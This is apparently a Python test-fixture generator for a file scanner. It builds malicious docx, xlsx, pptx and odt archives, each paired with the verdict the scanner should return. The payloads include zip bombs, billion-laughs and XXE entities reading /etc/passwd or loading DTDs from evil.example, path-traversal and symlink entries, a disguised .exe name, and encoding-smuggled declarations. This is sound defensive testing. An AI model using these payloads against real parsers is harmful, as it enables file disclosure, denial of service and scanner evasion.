"""Archives that are built to mislead: bombs, overlaps, names that lead out, declarations in any part."""

import io
import struct
import zipfile
from collections.abc import Iterator
from functools import partial
from typing import Any

from ..building import archive, content_types, docx, odf, pptx, words, xlsx

BUILT = "The file is not built as such files are"
BOMB = "The file unpacks to far more than it is"
DECLARED = "The file holds declarations"
DAMAGED = "The file is damaged"
OTHER = "What is in the file is not what its name says"
EMBEDDED = "The file holds another file or an object"
ENCRYPTED = "The file is encrypted"
MUCH = "The file has a part that holds more"

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><x>&i;</x>"
)
FETCHES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
DISTANT = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]><x/>'
EVERY_PART = {
    "docx": [
        "word/document.xml",
        "word/styles.xml",
        "word/settings.xml",
        "word/header1.xml",
        "word/footnotes.xml",
        "word/comments.xml",
        "word/theme/theme1.xml",
        "word/_rels/document.xml.rels",
        "customXml/item1.xml",
        "docProps/core.xml",
        "docProps/app.xml",
        "word/fontTable.xml",
        "[Content_Types].xml",
        "_rels/.rels",
    ],
    "xlsx": [
        "xl/workbook.xml",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
        "xl/drawings/drawing1.xml",
        "xl/comments1.xml",
    ],
    "pptx": [
        "ppt/presentation.xml",
        "ppt/slides/slide1.xml",
        "ppt/slideMasters/slideMaster1.xml",
        "ppt/theme/theme1.xml",
    ],
    "odt": ["content.xml", "styles.xml", "meta.xml", "settings.xml", "META-INF/manifest.xml", "manifest.rdf"],
}
MAKE: dict[str, Any] = {"docx": docx, "xlsx": xlsx, "pptx": pptx, "odt": partial(odf, "odt")}


def overlapping() -> bytes:
    """Many entries of the list that all lead to one part."""
    content = bytearray(docx({f"word/media/{number}.bin": b"\0" * 5_000 for number in range(40)}))
    start, first = 0, None
    while (start := content.find(b"PK\x01\x02", start)) != -1:
        if b"word/media" in content[start : start + 80]:
            first = first or content[start + 42 : start + 46]
            content[start + 42 : start + 46] = first
        start += 4
    return bytes(content)


def other_name_inside() -> bytes:
    """The list calls a part otherwise than the part itself."""
    content = docx({"word/media/aaaa.bin": b"x" * 100})
    place = content.rfind(b"word/media/aaaa.bin")
    return content[:place] + b"word/media/bbbb.exe" + content[place + 19 :]


def twice(first: str, second: str) -> bytes:
    """Two parts whose names some programs take for one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", content_types("docx"))
        made.writestr(first, words("A harmless paper."))
        made.writestr(second, words("Another one."))
    return out.getvalue()


def pressed(how: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as made:
        made.writestr("[Content_Types].xml", content_types("docx"))
        made.writestr("word/document.xml", words("A harmless paper."))
    return out.getvalue()


def link() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        entry = zipfile.ZipInfo("word/media/image1.png")
        entry.external_attr = 0o120777 << 16
        made.writestr(entry, "/etc/passwd")
    return out.getvalue()


def behind_comment() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.comment = b"MZ\x90\0" * 10
    return out.getvalue()


def changed(place: int, value: bytes, mark: bytes = b"PK\x05\x06") -> bytes:
    """A Word file with some bytes of its last record changed."""
    content = bytearray(docx())
    start = content.rfind(mark) + place
    content[start : start + len(value)] = value
    return bytes(content)


def tree(body: str) -> bytes:
    return docx({"word/styles.xml": f"<x>{body}</x>"})


def files() -> Iterator[tuple[str, str, Any, str]]:
    yield "parts that overlap", "report.docx", overlapping, DAMAGED
    yield "a part under two names", "report.docx", other_name_inside, DAMAGED
    yield "one name twice", "report.docx", archive_twice, BUILT
    for label, second in {
        "in capitals": "word/Document.xml",
        "with another stroke": "word\\document.xml",
        "with a stroke before": "./word/document.xml",
        "with two strokes": "word//document.xml",
        "with a full stop behind": "word/document.xml.",
    }.items():
        yield f"one name twice, {label}", "report.docx", partial(twice, "word/document.xml", second), BUILT
    for label, name in {
        "climbing inside": "word/media/../../../x",
        "on a share": "//evil.example/share/x",
        "on a share of Windows": "\\\\evil.example\\share\\x",
        "climbing in Windows": "..\\..\\x",
        "with a stream": "word/document.xml:x",
        "with a line break": "word/a\nb.xml",
        "turned round": "word/media/a\u202egnp.exe",
        "without a name": " ",
        "for ever": "word/" + "a/" * 200 + "x",
    }.items():
        yield f"a part {label}", "report.docx", partial(docx, {name: b"x"}), BUILT
    yield "a part that is a link", "report.docx", link, BUILT
    for label, how in {"bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}.items():
        yield f"packed with {label}", "report.docx", partial(pressed, how), BUILT
    yield "a comment that is a program", "report.docx", behind_comment, OTHER
    yield "on two disks", "report.docx", partial(changed, 4, struct.pack("<H", 1)), ""
    yield "a list that begins elsewhere", "report.docx", partial(changed, 16, struct.pack("<L", 5)), ""
    yield "a list that is longer", "report.docx", partial(changed, 12, struct.pack("<L", 2**31)), ""
    yield "fewer parts than it says", "report.docx", partial(changed, 10, struct.pack("<H", 900)), ""
    for kind, make in MAKE.items():
        for depth, inner in {"an archive": {"a": b"b"}, "a bomb": {"a": b"\0" * 5_000_000}}.items():
            put_in = {"media/inner.bin": lambda inner=inner: archive(inner)}
            yield (
                f"{depth} in {kind}",
                f"report.{kind}",
                lambda make=make, put_in=put_in: make({name: made() for name, made in put_in.items()}),
                EMBEDDED,
            )
        yield f"noughts in {kind}", f"report.{kind}", partial(make, {"media/0.bin": b"\0" * 9_000_000}), BOMB
        slow = "".join(f"<y{number}/>" for number in range(2_100_000)).encode()
        target = EVERY_PART[kind][0]
        yield (
            f"a tree without end in {kind}",
            f"report.{kind}",
            lambda make=make, target=target, slow=slow: make({target: b"<x>" + slow + b"</x>"}),
            MUCH,
        )
        for what, text in {
            "laughs": LAUGHS,
            "fetches": FETCHES,
            "distant": DISTANT,
            "parameter": PARAMETER,
        }.items():
            for part in EVERY_PART[kind] if what == "laughs" else EVERY_PART[kind][:3]:
                yield f"{what} in {part} of {kind}", f"report.{kind}", partial(make, {part: text}), DECLARED
        for code in ("utf-16", "utf-32", "utf-7", "utf-16-be", "cp037"):
            hidden = FETCHES.replace("?>", f' encoding="{code.upper()}"?>', 1).encode(code)
            part = EVERY_PART[kind][1]
            yield f"declarations in {code} in {kind}", f"report.{kind}", partial(make, {part: hidden}), ""


def archive_twice() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return twice("word/document.xml", "word/document.xml")
